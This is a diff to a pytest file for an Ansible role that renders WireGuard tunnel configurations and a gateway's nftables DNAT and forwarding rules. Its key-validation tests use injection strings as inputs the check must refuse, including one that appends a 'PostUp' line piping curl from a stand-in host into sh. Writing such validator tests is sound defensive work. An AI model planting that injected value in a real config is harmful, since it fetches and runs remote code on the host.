@@ -1,12 +1,15 @@
 # GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
 """The private_node_join role's tunnels as it writes them: ansible-playbook reads a fleet through the
 inventory plugin, the role picks this host's tunnels (tasks/tunnels.yml: tenant filter, gateway check)
-and its template renders each wg-quick configuration (mesh, keepalive), with stand-in public keys.
-Nothing is applied to a host."""
+and its template renders each wg-quick configuration (mesh, keepalive), with stand-in public keys, and
+the gateway's nftables rules (tasks/gateway_rules.yml, templates/gateway.nft.j2). Nothing is applied to
+a host; the lab tests load the rules into a real kernel."""
 from __future__ import annotations
 
+import base64
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -19,10 +22,13 @@ from tests.support.fleet_data import fleet, node, tenant
 REPO = Path(__file__).resolve().parents[3]
 BIN = Path(sys.executable).parent
 TEMPLATE = REPO / "roles" / "private_node_join" / "templates" / "wg-quick.conf.j2"
+FIREWALL = REPO / "roles" / "private_node_join" / "templates" / "gateway.nft.j2"
+ROLE_VARS = yaml.safe_load((REPO / "roles" / "private_node_join" / "vars" / "main.yml").read_text())
 SCENARIOS = {
     "defaults": {},
     "no_mesh_no_keepalive": {"private_node_join_mesh": False, "private_node_join_keepalive": 0},
     "only_cobalt": {"private_node_join_tenants": ["cobalt"], "private_node_join_keepalive": 10},
+    "load_balancer": {"private_node_join_api_target": "192.0.2.50", "private_node_join_api_target_port": 443},
 }
 RENDER = """{% set out = {} %}{% for t in private_node_join__tunnels %}{% set _ = out.update({t.interface:
 lookup('ansible.builtin.template', template, template_vars={'item': t})}) %}{% endfor %}{{ out }}"""
@@ -42,6 +48,14 @@ def _play(name: str, settings: dict) -> dict:
              "ansible.builtin.include_role": {"name": "gpucloud.baremetal.private_node_join",
                                               "tasks_from": "tunnels.yml", "public": True}},
             {"name": "Render them", "ansible.builtin.set_fact": {"rendered_" + name: RENDER}},
+            {"name": "The gateway's forwarding",
+             "ansible.builtin.include_role": {"name": "gpucloud.baremetal.private_node_join",
+                                              "tasks_from": "gateway_rules.yml", "public": True},
+             "when": "inventory_hostname in groups['wireguard_gateways']"},
+            {"name": "Render its firewall", "ansible.builtin.set_fact": {
+                "rendered_" + name: "{{ rendered_%s | combine({'nft': lookup('ansible.builtin.template', '%s')}) }}"
+                                    % (name, FIREWALL)},
+             "when": "inventory_hostname in groups['wireguard_gateways']"},
         ],
     }
 
@@ -101,7 +115,7 @@ def interface(conf: str) -> dict:
 
 
 def test_gateway_has_one_interface_per_tenant_with_that_tenants_nodes(rendered: dict) -> None:
-    gw = rendered["cp"]["defaults"]
+    gw = {k: v for k, v in rendered["cp"]["defaults"].items() if k != "nft"}
     assert sorted(gw) == ["wg-acme", "wg-cobalt"]
     assert interface(gw["wg-acme"])["Address"] == "10.201.0.1/24"
     assert interface(gw["wg-cobalt"])["ListenPort"] == "51821"
@@ -129,7 +143,7 @@ def test_mesh_off_leaves_the_gateway_only_and_keepalive_zero_drops_it(rendered: 
 
 
 def test_tenant_filter_keeps_only_that_tenants_tunnels(rendered: dict) -> None:
-    assert sorted(rendered["cp"]["only_cobalt"]) == ["wg-cobalt"]
+    assert sorted(rendered["cp"]["only_cobalt"]) == ["nft", "wg-cobalt"]
     assert rendered["gpu01"]["only_cobalt"] == {} and rendered["gpu04"]["only_cobalt"] == {}
     (conf,) = rendered["gpu05"]["only_cobalt"].values()
     assert peers(conf) == [{"host": "cp", "PublicKey": "key-of-cp", "AllowedIPs": "10.203.0.1/32",
@@ -140,3 +154,57 @@ def test_a_private_node_without_a_gateway_in_the_fleet_is_stopped(tmp_path: Path
     run = _run(REPO / "inventories" / "example" / "fleet.yml", [_play("defaults", {})], tmp_path)
     assert run.returncode != 0
     assert "gpu-r2-01 is a private node but the fleet has no WireGuard gateway" in run.stdout
+
+
+def _rules(nft: str, chain: str) -> list[str]:
+    body = re.search(r"chain %s \{(.*?)\n\t\}" % chain, nft, re.S).group(1)
+    return [line.strip() for line in body.splitlines() if line.strip() and not line.strip().startswith("type ")]
+
+
+def test_the_gateway_forwards_each_tenants_hub_port_to_its_service_and_nothing_else(rendered: dict) -> None:
+    nft = rendered["cp"]["defaults"]["nft"]
+    assert nft.count("table inet gpucloud_wireguard") == 3  # declared, deleted, defined: one transaction
+    # The tenant's NodePort (30000 + VLAN) on the gateway itself, a node of the host cluster.
+    assert _rules(nft, "prerouting") == [
+        'iifname "wg-acme" ip daddr 10.201.0.1 tcp dport 443 dnat ip to 192.0.2.5:30101 comment "acme: hub -> vCluster Service"',
+        'iifname "wg-cobalt" ip daddr 10.203.0.1 tcp dport 443 dnat ip to 192.0.2.5:30103 comment "cobalt: hub -> vCluster Service"']
+    assert _rules(nft, "from_tunnels") == [
+        "ct state established,related accept",
+        'iifname "wg-acme" ct status dnat ct original ip daddr 10.201.0.1 ct original proto-dst 443 accept '
+        'comment "acme: its hub, forwarded"',
+        'iifname "wg-cobalt" ct status dnat ct original ip daddr 10.203.0.1 ct original proto-dst 443 accept '
+        'comment "cobalt: its hub, forwarded"',
+        "drop"]
+    assert _rules(nft, "input") == ['iifname "wg-*" jump from_tunnels']
+    assert _rules(nft, "forward")[0] == 'iifname "wg-*" jump from_tunnels'
+    assert _rules(nft, "forward")[-1].startswith('oifname "wg-*" drop')
+
+
+def test_a_run_for_one_tenant_keeps_every_tenants_rules(rendered: dict) -> None:
+    assert rendered["cp"]["only_cobalt"]["nft"] == rendered["cp"]["defaults"]["nft"]
+
+
+def test_the_forwarding_target_may_be_a_load_balancer(rendered: dict) -> None:
+    prerouting = _rules(rendered["cp"]["load_balancer"]["nft"], "prerouting")
+    assert [rule.split(" dnat ip to ")[1].split()[0] for rule in prerouting] == ["192.0.2.50:443", "192.0.2.50:443"]
+
+
+def _is_key(text: str) -> bool:
+    """The role's check, as its `regex` test applies it (re.search, no flags)."""
+    return re.search(ROLE_VARS["private_node_join__key_pattern"], text) is not None
+
+
+@pytest.mark.parametrize("raw", [bytes(32), bytes(range(32)), b"\xff" * 32])
+def test_a_wireguard_public_key_is_accepted(raw: bytes) -> None:
+    assert _is_key(base64.b64encode(raw).decode())
+
+
+@pytest.mark.parametrize("text", [
+    base64.b64encode(bytes(31)).decode(), base64.b64encode(bytes(33)).decode(),
+    base64.b64encode(bytes(32)).decode() + "\nAllowedIPs = 0.0.0.0/0",
+    base64.b64encode(bytes(32)).decode() + "\nPostUp = curl http://198.51.100.99/x | sh",
+    "AllowedIPs = 0.0.0.0/0\n" + base64.b64encode(bytes(32)).decode(),
+    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB=",  # 43 characters, but not the encoding of 32 bytes
+    "", "(generated on the first run)"])
+def test_anything_else_is_refused(text: str) -> None:
+    assert not _is_key(text)
